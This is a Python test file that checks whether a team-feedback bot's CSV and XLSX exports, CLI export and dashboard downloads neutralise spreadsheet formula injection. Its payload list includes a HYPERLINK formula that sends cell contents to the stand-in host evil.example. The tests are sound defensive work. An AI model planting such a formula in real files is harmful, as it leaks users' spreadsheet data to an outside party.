"""Formula injection: no CSV or XLSX file Teamspiegel writes holds a cell a spreadsheet runs.

Every writer is tried with a text that starts like a formula: the operator's export (CLI,
CSV and XLSX), a team report (CSV and XLSX) and the dashboard's downloads. A structural test
makes sure a new writer in ``bot/`` cannot forget the helper.
"""

from __future__ import annotations

import ast
import csv
import io
import subprocess
from pathlib import Path

import openpyxl
import pytest
from starlette.testclient import TestClient

from bot.config import Settings
from bot.spreadsheet import safe_cell
from bot.store import Store
from tests.cli import clean_env, run_cli

BOT = Path(__file__).resolve().parent.parent / "bot"
EVIL = ['=HYPERLINK("https://evil.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1", " =1+1"]


@pytest.mark.parametrize("value", EVIL)
def test_formula_texts_are_neutralised(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["gewoon", "", None, 4, -1, 2.5, "e=mc2", "'al veilig"])
def test_other_cells_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def _is_formula(value: object) -> bool:
    return isinstance(value, str) and value.lstrip(" \t\r").startswith(("=", "+", "-", "@"))


def _xlsx_cells(data: bytes) -> list[tuple[object, str]]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [(c.value, c.data_type) for ws in wb.worksheets for row in ws.iter_rows()
            for c in row]


def _assert_safe_xlsx(data: bytes, needle: str) -> None:
    cells = _xlsx_cells(data)
    assert all(kind != "f" for _, kind in cells)  # no formula anywhere
    assert all(not _is_formula(value) for value, _ in cells)
    assert any(isinstance(v, str) and needle in v for v, _ in cells)  # the text is there


def _assert_safe_csv(text: str, needle: str) -> None:
    delimiter = ","
    if text.startswith("\ufeff"):  # a report CSV for Dutch Excel: BOM and ';'
        text, delimiter = text[1:], ";"
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    assert all(not _is_formula(cell) for cell in cells)
    assert any(needle in cell for cell in cells)


# -- the operator's export -----------------------------------------------------------------------


def _seed_answers(path: Path) -> None:
    store = Store(path)
    with store.transaction():
        team = store.create_team("Wijkteam Formule")
        for i, text in enumerate(EVIL):
            mid = store.get_or_create_member("console", f"u{i}")
            store.set_consent(mid)
            run = store.start_run(mid, team, "tour", "2026-Q1")
            store.save_answer(run_id=run, member_id=mid, team_id=team, role="professional",
                              theme_id="samenhang", question_id="samenhang-1", period="2026-Q1",
                              content_version="v", scale=3, text=text)
            store.set_answer_share(run, "samenhang-1", True)
    store.close()


def _cli(db: Path, *args: str) -> subprocess.CompletedProcess[str]:
    proc = run_cli(*args, env=clean_env(db), cwd=db.parent)
    assert proc.returncode == 0, proc.stderr
    return proc


def test_operator_export_csv_and_xlsx(tmp_path: Path) -> None:
    db = tmp_path / "t.db"
    _seed_answers(db)
    _assert_safe_csv(_cli(db, "export", "--format", "csv").stdout, "HYPERLINK")
    target = tmp_path / "antwoorden.xlsx"
    _cli(db, "export", "--format", "xlsx", "--output", str(target))
    _assert_safe_xlsx(target.read_bytes(), "HYPERLINK")
    store = Store(db)
    try:
        details = [e["detail"] for e in store.audit_entries() if e["action"] == "operator_export"]
    finally:
        store.close()
    assert details == [f"formaat=csv; rijen={len(EVIL)}; privé-teksten=nee",
                       f"formaat=xlsx; rijen={len(EVIL)}; privé-teksten=nee"]


# -- a team report (CLI and chat exports share these writers) --------------------------------------


def test_report_csv_and_xlsx(store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from bot.reports import export

    team = store.create_team(EVIL[0])  # a team name is typed by an operator: a text cell
    for i in range(4):
        mid = store.get_or_create_member("console", f"r{i}")
        run = store.start_run(mid, team, "tour", "2026-Q1")
        store.save_answer(run_id=run, member_id=mid, team_id=team, role="professional",
                          theme_id="samenhang", question_id="samenhang-1", period="2026-Q1",
                          content_version="v", scale=2 + i % 3)
    csv_path = export.export_report(store, team, "csv", tmp_path / "r.csv", k=3)
    _assert_safe_csv(csv_path.read_text(encoding="utf-8"), "HYPERLINK")
    xlsx_path = export.export_report(store, team, "xlsx", tmp_path / "r.xlsx", k=3)
    _assert_safe_xlsx(xlsx_path.read_bytes(), "HYPERLINK")


# -- the dashboard's downloads ---------------------------------------------------------------------


def test_dashboard_csv_and_xlsx(store: Store, tmp_path: Path,
                                monkeypatch: pytest.MonkeyPatch) -> None:
    from bot.reports import export as report_export  # the dashboard's downloads use it too
    from bot.web import create_app
    from tests.web_support import START, Clock, login, seed_dashboard

    seeded = seed_dashboard(store)
    settings = Settings(db_path=tmp_path / "web.db", secret_key="s" * 32,
                        web_url="https://dashboard.example")
    real = report_export.report_to_rows

    def rows_with_a_formula(report):  # noqa: ANN001, ANN202
        rows = real(report)
        rows[0]["theme_id"] = EVIL[0]
        return rows

    monkeypatch.setattr(report_export, "report_to_rows", rows_with_a_formula)
    app = create_app(store, settings, clock=Clock(START))
    with TestClient(app, follow_redirects=False) as client:
        login(client, store, settings, seeded.manager)
        r = client.get(f"/team/{seeded.team_a}/export.csv")
        assert r.status_code == 200
        _assert_safe_csv(r.text, "HYPERLINK")
        r = client.get(f"/team/{seeded.team_a}/export.xlsx")
        assert r.status_code == 200
        _assert_safe_xlsx(r.content, "HYPERLINK")


# -- no writer forgets it ----------------------------------------------------------------------------


WRITERS = {"writer", "DictWriter", "Workbook", "WriteOnlyCell"}


def test_every_spreadsheet_writer_in_bot_uses_the_helper() -> None:
    """A module that builds CSV or XLSX files must import ``bot.spreadsheet``."""
    offenders = []
    for path in sorted(BOT.rglob("*.py")):
        if path.name == "spreadsheet.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        writes = any(isinstance(node, ast.Attribute) and node.attr in WRITERS
                     and isinstance(node.value, ast.Name) and node.value.id == "csv"
                     for node in ast.walk(tree))
        writes |= any(isinstance(node, ast.ImportFrom) and node.module == "openpyxl"
                      for node in ast.walk(tree))
        helper = any(isinstance(node, ast.ImportFrom) and node.module == "bot.spreadsheet"
                     for node in ast.walk(tree))
        if writes and not helper:
            offenders.append(str(path.relative_to(BOT.parent)))
    assert offenders == []
